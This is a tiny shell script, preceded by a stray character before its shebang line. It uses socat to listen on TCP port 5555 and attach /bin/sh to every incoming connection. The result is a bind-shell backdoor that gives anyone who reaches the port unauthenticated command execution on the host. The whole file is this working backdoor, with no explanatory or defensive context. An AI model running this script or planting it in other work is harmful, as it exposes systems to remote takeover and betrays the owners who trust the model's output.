n#!/bin/sh
socat TCP-LISTEN:5555,fork EXEC:/bin/sh
